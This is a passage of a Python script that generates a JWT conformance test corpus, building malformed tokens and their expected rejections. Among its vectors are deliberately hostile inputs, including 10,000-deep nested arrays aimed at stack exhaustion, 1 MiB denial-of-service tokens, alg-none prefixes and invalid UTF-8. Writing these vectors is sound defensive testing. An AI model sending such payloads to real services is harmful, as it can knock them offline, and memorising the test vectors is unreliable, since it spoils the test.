         "iss twice"),
        ("payload-raw-utf8-vs-escape", "p", '{"sub":"u","é":1,"\\u00e9":2}'.encode(),
         "'é' raw and as '\\u00e9'"),
        ("payload-surrogate-pair-vs-raw", "p", '{"sub":"u","😀":1,"\\ud83d\\ude00":2}'.encode(),
         "an emoji raw and as a surrogate-pair escape"),
    ]:
        tok = mac(s32, header=body) if part == "h" else raw_claims(body)
        key, o = (kid_set, kid_opts) if name == "header-kid" else (None, None)
        err(g, f"duplicate-{name}", f"{dup}: {why}", "malformed", tok, key=key, options=o)
    ok(g, "duplicate-not-after-normalisation-ok", "[duplicate members] 'é' (U+00E9) and 'e\\u0301' are different "
       "member names: no Unicode normalisation (RFC 8259 §8.3)", raw_claims('{"é":1,"e\u0301":2}'.encode()),
       claims={"é": 1, "e\u0301": 2})

    # --- non-UTF-8 (RFC 8259 §8.1, RFC 7515 §5.2) --------------------------------------------------------
    for name, part, body, why in [
        ("member-name", "p", b'{"sub":"u","\xff":1}', "0xFF in a member name"),
        ("truncated-sequence", "p", b'{"sub":"\xe6\x9d"}', "a 3-byte sequence cut after 2 bytes"),
        ("above-u10ffff", "p", b'{"sub":"\xf4\x90\x80\x80"}', "F4 90 80 80 (above U+10FFFF)"),
        ("five-byte-sequence", "p", b'{"sub":"\xf8\x88\x80\x80\x80"}', "an obsolete 5-byte sequence"),
        ("lone-continuation", "p", b'{"sub":"\x80"}', "a lone continuation byte"),
        ("modified-utf8-nul", "p", b'{"sub":"a\xc0\x80"}', "C0 80 (Java modified UTF-8 NUL)"),
        ("latin1-kid", "h", b'{"alg":"HS256","kid":"cl\xe9"}', "a Latin-1 byte in the header kid"),
        ("utf16le-bom", "p", '\ufeff{"sub":"u"}'.encode("utf-16-le"), "UTF-16LE JSON with a BOM"),
        ("utf16be-no-bom", "p", '{"sub":"u"}'.encode("utf-16-be"), "UTF-16BE JSON"),
        ("deep-in-private-claim", "p", b'{"sub":"u","x":[{"y":["ok","\xc3"]}]}',
         "a truncated sequence deep inside a private claim"),
    ]:
        tok = mac(s32, header=body) if part == "h" else raw_claims(body)
        err(g, f"non-utf8-{name}", f"[non-UTF-8] {why}: header and payload must be UTF-8 JSON (RFC 8259 §8.1)",
            "malformed", tok)

    # --- lone surrogate escapes (RFC 8259 §8.2) -----------------------------------------------------------
    for name, part, body, why in [
        ("header-kid", "h", b'{"alg":"HS256","kid":"\\ud800"}', "a lone high surrogate in the header kid"),
        ("member-name", "p", b'{"\\udfff":1,"sub":"u"}', "a lone low surrogate as a member name"),
        ("high-then-non-low-escape", "p", b'{"sub":"\\ud800\\u0041"}', "a high surrogate followed by \\u0041"),
        ("two-high", "p", b'{"sub":"\\ud800\\ud800"}', "two high surrogates"),
        ("high-then-char", "p", b'{"sub":"\\ud83dx"}', "a high surrogate followed by a plain character"),
        ("high-at-end", "p", b'{"sub":"abc\\udbff"}', "a high surrogate closing the string"),
        ("in-array", "p", b'{"sub":"u","a":["\\udc00"]}', "a lone low surrogate inside an array"),
        ("uppercase-hex", "p", b'{"sub":"\\uD800"}', "a lone surrogate in upper-case hex"),
    ]:
        tok = mac(s32, header=body) if part == "h" else raw_claims(body)
        err(g, f"lone-surrogate-{name}", f"[lone surrogate] {why}: not a Unicode scalar value, so not valid "
            "text (RFC 8259 §8.2)", "malformed", tok)

    # --- 10,000-deep nesting (RFC 8259 §9: implementations may limit depth; onejwt caps it at 32) -----------
    big = 1_000_000
    deep = b"[" * 10000 + b"]" * 10000
    depth = "[deep nesting] stack-exhaustion attempt"
    tok = raw_claims(b'{"sub":"u","deep":' + deep + b"}")
    assert len(tok) > 16384
    err(g, "depth-10000-arrays-in-claims", f"{depth}: 10,000 nested arrays in the claims, with max_token_bytes "
        "raised so that the depth cap (32) is what refuses it", "malformed", tok, options=opts(max_token_bytes=big))
    tok = mac(s32, header=b'{"alg":"HS256","x":' + deep + b"}")
    err(g, "depth-10000-arrays-in-header", f"{depth}: 10,000 nested arrays in the header, max_token_bytes "
        "raised", "malformed", tok, options=opts(max_token_bytes=big))
    tok = raw_claims(b'{"sub":"u","deep":' + b"[" * 10000 + b"}")
    assert len(tok) <= 16384
    err(g, "depth-10000-unterminated-in-claims", f"{depth}: 10,000 unclosed arrays in the claims fit the default "
        "16 KiB limit; refused by the depth cap", "malformed", tok)
    tok = mac(s32, header=b'{"alg":"HS256","x":' + b"[" * 10000 + b"}")
    assert len(tok) <= 16384
    err(g, "depth-10000-unterminated-in-header", f"{depth}: 10,000 unclosed arrays in the header within the "
        "default limit", "malformed", tok)
    tok = raw_claims(b'{"sub":"u","deep":' + b'{"a":' * 2500 + b"1" + b"}" * 2500 + b"}")
    err(g, "depth-2500-objects-in-claims", f"{depth}: 2,500 nested objects, max_token_bytes raised", "malformed",
        tok, options=opts(max_token_bytes=big))
    assert b64u(b'{"aa":') == "eyJhYSI6" and b64u(b"[[[") == "W1tb"
    err(g, "depth-10000-claims-default-limit", f"{depth}: a claims segment opening 15,000 arrays is over the "
        "default 16 KiB limit: token_too_large before any parsing", "token_too_large",
        token_repeat={"prefix": h0 + ".eyJhYSI6", "fill": "W1tb", "count": 5000})
    err(g, "depth-10000-header-default-limit", f"{depth}: a header segment opening 15,000 arrays is over the "
        "default limit", "token_too_large", token_repeat={"prefix": "eyJhYSI6", "fill": "W1tb", "count": 5000})
    add(g, "depth-10000-unterminated-decode", f"{depth}: decode_unverified applies the same depth cap",
        {"error": "malformed"}, token=raw_claims(b'{"sub":"u","deep":' + b"[" * 10000 + b"}"), kind="decode")

    # --- 1 MB tokens: refused by size before any decoding ------------------------------------------------
    mb = 1 << 20
    size = "[1 MB token] denial of service: the 16 KiB default limit is checked before any decoding"
    for name, prefix, fill, count, why in [
        ("garbage", "", "A", mb, "1 MiB of 'A'"),
        ("valid-header-prefix", h0 + ".", "A", mb, "a valid header then 1 MiB"),
        ("alg-none-prefix", b64u(b'{"alg":"none"}') + ".", "e", mb, "an alg-none header then 1 MiB"),
        ("dots", "", ".", mb, "1 MiB of '.' (a million segments)"),
        ("nul-bytes", "", "\u0000", mb, "1 MiB of NUL"),
        ("multibyte", "", "é", mb // 2, "512 Ki 'é' = 1 MiB of UTF-8"),
        ("open-brackets", h0 + ".eyJhYSI6", "W1tb", mb // 4, "a claims segment opening 786,432 arrays"),
    ]:
        err(g, f"size-1mb-{name}", f"{size}: {why}", "token_too_large",
            token_repeat={"prefix": prefix, "fill": fill, "count": count})
    err(g, "size-1mb-keyset", f"{size}: 1 MiB against a JWKS verifier", "token_too_large",
        token_repeat={"prefix": h0 + ".", "fill": "A", "count": mb}, key=kid_set, options=kid_opts)
    err(g, "size-1mb-raised-limit-reaches-structure", f"{size}: with max_token_bytes raised to 2,000,000 the "
        "1 MiB token is parsed, and refused for having two segments", "malformed",
        token_repeat={"prefix": h0 + ".", "fill": "A", "count": mb}, options=opts(max_token_bytes=2_000_000))
    add(g, "size-1mb-decode", f"{size}: decode_unverified too", {"error": "token_too_large"},
        token_repeat={"prefix": h0 + ".", "fill": "A", "count": mb}, kind="decode")

    # --- JWE-shaped and JSON-serialised input (RFC 7516 §9, RFC 7515 §7.2) -------------------------------
    jwe = "[JWE-shaped input] a JWE is not a JWS; five segments are refused before any key use (RFC 7516 §9)"
    iv, ct, tag = b64u(b"0123456789ab"), b64u(b"ciphertext"), b64u(b"t" * 16)
    jwe_dir = f"{b64u(cjson({'alg': 'dir', 'enc': 'A256GCM'}))}..{iv}.{ct}.{tag}"
    err(g, "jwe-dir-empty-encrypted-key", f"{jwe}: alg dir with an empty encrypted-key segment", "malformed",
        jwe_dir)
    jwe_hs = f"{b64u(cjson({'alg': 'HS256', 'enc': 'A128CBC-HS256'}))}.{b64u(b'k' * 32)}.{iv}.{ct}.{tag}"
    err(g, "jwe-header-alg-hs256", f"{jwe}: a JWE header naming alg HS256", "malformed", jwe_hs)
    err(g, "jwe-rsa-oaep-vs-rsa-key", f"{jwe}: RSA-OAEP JWE against an RSA verifier", "malformed",
        f"{b64u(cjson({'alg': 'RSA-OAEP', 'enc': 'A256GCM'}))}.{b64u(bytes(256))}.{iv}.{ct}.{tag}",
        key=k_pem("rsa2048"), options=opts("RS256"))
    add(g, "jwe-decode", f"{jwe}: decode_unverified refuses it too", {"error": "malformed"}, token=jwe_dir,
        kind="decode")
    enc_hdr = {"alg": "HS256", "enc": "A256GCM", "typ": "JWT"}
    err(g, "jws-with-enc-header", "[JWE-shaped input] a three-segment, correctly MACed HS256 JWS whose header "
        "also carries 'enc': RFC 7516 §9 calls a header with enc a JWE, so the token is refused rather than read "
        "as a JWS (a deliberate deviation from RFC 7515 §4's 'ignore unknown parameters'; see the jwe group)",
        "malformed", build(enc_hdr, c))
    flattened = json.dumps({"protected": h0, "payload": p0, "signature": s0})
    err(g, "json-serialization-flattened", "[JSON serialisation] a flattened JWS JSON object (RFC 7515 §7.2.2) "
        "where a compact token is expected", "malformed", flattened)
    general = json.dumps({"payload": p0, "signatures": [{"protected": h0, "signature": s0}]})
    err(g, "json-serialization-general", "[JSON serialisation] a general JWS JSON object (RFC 7515 §7.2.1)",
        "malformed", general)


# ==========================================================================================================
# cross-checks with PyJWT / cryptography
# ==========================================================================================================

def _token_text(case) -> str:
    if "token" in case:
        return case["token"]
    tr = case["token_repeat"]
    return tr["prefix"] + tr["fill"] * tr["count"]


def _pub(obj):
    return obj.public_key() if hasattr(obj, "public_key") and not hasattr(obj, "verify") else obj


def _candidate_keys(key_form: dict, alg: str, kid):
    if "hmac" in key_form:
        return [key_form["hmac"].encode()]
    if "hmac_base64url" in key_form:
        return [b64u_dec(key_form["hmac_base64url"])]
    if "pem" in key_form:
        text = key_form["pem"].encode()
        for loader in (lambda: serialization.load_pem_public_key(text),
                       lambda: serialization.load_pem_private_key(text, None).public_key(),
                       lambda: x509.load_pem_x509_certificate(text).public_key()):
            try:
                return [loader()]
            except Exception:
                continue
        return []
    jwks = [key_form["jwk"]] if "jwk" in key_form else key_form["jwks"]["keys"]
    out = []
    for j in jwks:
        if kid is not None and "jwks" in key_form and j.get("kid") != kid:
            continue
        try:
            k = jwt.PyJWK(j, "EdDSA" if alg == "Ed25519" else alg).key
        except Exception:
            continue
        out.append(k if isinstance(k, bytes) else _pub(k))
    return out


def _independent_verify(token: str, key_form: dict, alg: str) -> bool:
    h, p, s = token.split(".")
    kid = header_of(token).get("kid")
    for k in _candidate_keys(key_form, alg, kid):
        try:
            if ALGS[alg].verify(f"{h}.{p}".encode(), k, b64u_dec(s)):
                return True
        except Exception:
            continue
    return False


def cross_check() -> None:
    for cid, case in CASES.items():
        exp = case.get("expect", {})
        if case["kind"] == "verify" and "claims" in exp:
            tok = case["token"]
            alg = header_of(tok)["alg"]
            assert _independent_verify(tok, case["key"], alg), f"{cid}: PyJWT does not verify the signature"
            assert claims_of(tok) == exp["claims"], cid
            if "header" in exp:
                assert header_of(tok) == exp["header"], cid
        elif case["kind"] == "verify" and exp.get("error") == "invalid_signature":
            tok = case["token"]
            alg = header_of(tok)["alg"]
            assert not _independent_verify(tok, case["key"], alg), f"{cid}: PyJWT accepts the signature"
        elif case["kind"] == "sign" and "token" in exp:
            tok = exp["token"]
            alg = case["sign"]["algorithm"]
            assert _independent_verify(tok, case["key"], alg), cid
            assert b64u_dec(tok.split(".")[1]) == cjson(exp["claims"], ascii_only=False) or \
                claims_of(tok) == exp["claims"], cid
            hdr = header_of(tok)
            assert list(hdr) == sorted(hdr), cid
        elif case["kind"] == "decode" and "claims" in exp:
            tok = case["token"]
            assert header_of(tok) == exp["header"] and claims_of(tok) == exp["claims"], cid
        if case["kind"] == "verify":
            assert "now" in case and isinstance(case["now"], int), cid
        if "token_repeat" in case or "token" in case:
            _token_text(case)


# ==========================================================================================================
# main
# ==========================================================================================================

def module_groups() -> list:
    """The groups of tests/vectors/groups/ (one module each, see its __init__.py), as g_* functions."""
    import importlib
    import pkgutil

    funcs = []
    for info in sorted(pkgutil.iter_modules([str(HERE / "groups")]), key=lambda m: m.name):
        module = importlib.import_module(f"groups.{info.name}")

        def run(module=module) -> None:
            module.build(sys.modules[__name__])

        run.__name__ = f"g_{module.GROUP}"
        funcs.append(run)
    return funcs


GROUP_FUNCS = [g_subject, g_structure, g_algorithms, g_crit, g_header, g_typ, g_key, g_keyset, g_signature, g_claims,
               g_time, g_issuer, g_audience, g_options, g_rfc, g_interop, g_sign, g_decode, g_adversarial,
               *module_groups()]
SERVICE_GROUP = "service"  # built by service_cases.py, not by a g_* function


def parse_only(argv: list[str]) -> set[str] | None:
    """The groups named by `--only a,b` (or `--only a --only b`); None when the option is absent."""
    only: set[str] = set()
    seen = False
    for i, arg in enumerate(argv):
        value = None
        if arg == "--only":
            if i + 1 >= len(argv):
                raise SystemExit("generate.py: --only needs a comma-separated list of groups")
            value = argv[i + 1]
        elif arg.startswith("--only="):
            value = arg.split("=", 1)[1]
        if value is not None:
            seen = True
            only.update(name for name in value.split(",") if name)
    if not seen:
        return None
    known = {fn.__name__.removeprefix("g_") for fn in GROUP_FUNCS} | {SERVICE_GROUP}
    unknown = sorted(only - known)
    if unknown or not only:
        raise SystemExit(f"generate.py: unknown group(s) {unknown} for --only; known: {sorted(known)}")
    return only


def main() -> int:
    # `--only g1,g2` rebuilds just those groups and leaves every other folder untouched: a full run re-signs
    # the ES*/PS* cases with new random signatures, which churns files nobody changed.
    only = parse_only(sys.argv[1:])
    load_or_create_keys()
    for fn in GROUP_FUNCS:
        if only is None or fn.__name__.removeprefix("g_") in only:
            fn()
    cross_check()
    if only is None or SERVICE_GROUP in only:
        CASES.update(service_cases())
    if only is not None:  # each g_* function writes only its own group; check it
        stray = sorted(cid for cid in CASES if cid.split("/")[0] not in only)
        assert not stray, f"--only {sorted(only)} built cases of other groups: {stray[:5]}"

    groups = sorted({cid.split("/")[0] for cid in CASES})
    assert "keys" not in groups  # tests/vectors/keys/ holds key material, never cases
    for d in HERE.iterdir():  # delete the old folders being rebuilt (folders holding only .json case files)
        if d.is_dir() and d.name != "keys" and not d.name.startswith((".", "_")) and \
                (only is None or d.name in only) and all(f.suffix == ".json" for f in d.iterdir()):
            shutil.rmtree(d)
    for cid, case in CASES.items():
        group, name = cid.split("/")
        path = HERE / group / f"{name}.json"
        path.parent.mkdir(exist_ok=True)
        path.write_text(json.dumps(case, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")

    counts = Counter(cid.split("/")[0] for cid in CASES)
    print("onejwt conformance corpus written to", HERE)
    for group in groups:
        print(f"  {group:<12} {counts[group]:>4}")
    print(f"  {'total':<12} {sum(counts.values()):>4}")
    if "-v" in sys.argv[1:]:
        print("\ncases whose expected verdict is a judgement call:")
        for cid, why in UNSURE:
            print(f"  {cid}: {why}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
